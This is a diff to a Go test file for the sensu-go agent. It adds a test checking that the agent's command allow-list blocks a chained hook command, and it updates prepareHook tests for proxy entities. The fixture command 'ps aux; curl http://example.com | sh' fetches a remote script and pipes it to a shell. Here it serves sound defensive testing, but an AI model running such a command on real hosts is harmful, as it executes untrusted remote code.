@@ -10,6 +10,7 @@ import (
 	"github.com/sensu/sensu-go/transport"
 	"github.com/sensu/sensu-go/types"
 	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
 )
 
 func TestExecuteHook(t *testing.T) {
@@ -54,6 +55,36 @@ func TestExecuteHook(t *testing.T) {
 	assert.Equal("hello", hook.Output)
 }
 
+func TestExecuteHookCommandFilter(t *testing.T) {
+	hookConfig := types.FixtureHookConfig("hook")
+	hookConfig.Command = "ps aux; curl http://example.com | sh"
+
+	config, cleanup := FixtureConfig()
+	defer cleanup()
+	config.CommandAllowPatterns = []string{"ps *"}
+	agent, err := NewAgent(config)
+	require.NoError(t, err)
+	ex := &mockexecutor.MockExecutor{}
+	var executed bool
+	ex.SetRequestFunc(func(context.Context, command.ExecutionRequest) {
+		executed = true
+	})
+	agent.executor = ex
+
+	evt := &types.Event{
+		Check: &types.Check{
+			ObjectMeta: types.ObjectMeta{
+				Name: "check",
+			},
+		},
+	}
+
+	hook := agent.executeHook(context.Background(), hookConfig, evt, nil)
+	assert.Equal(t, int32(3), hook.Status)
+	assert.Contains(t, hook.Output, "denied by the agent command filter")
+	assert.False(t, executed)
+}
+
 func TestPrepareHook(t *testing.T) {
 	assert := assert.New(t)
 
@@ -65,16 +96,21 @@ func TestPrepareHook(t *testing.T) {
 	}
 
 	// nil hook
-	assert.False(agent.prepareHook(nil))
+	assert.False(agent.prepareHook(nil, nil))
 
 	// Invalid hook
 	hook := types.FixtureHookConfig("hook")
 	hook.Command = ""
-	assert.False(agent.prepareHook(hook))
+	assert.False(agent.prepareHook(hook, nil))
 
 	// Valid check
 	hook.Command = "{{ .name }}"
-	assert.True(agent.prepareHook(hook))
+	assert.True(agent.prepareHook(hook, nil))
+
+	// Hooks of proxy checks are prepared with the proxy entity
+	hook.Command = "echo {{ .name }}"
+	assert.True(agent.prepareHook(hook, types.FixtureEntity("router")))
+	assert.Equal("echo router", hook.Command)
 }
 
 func TestHookInList(t *testing.T) {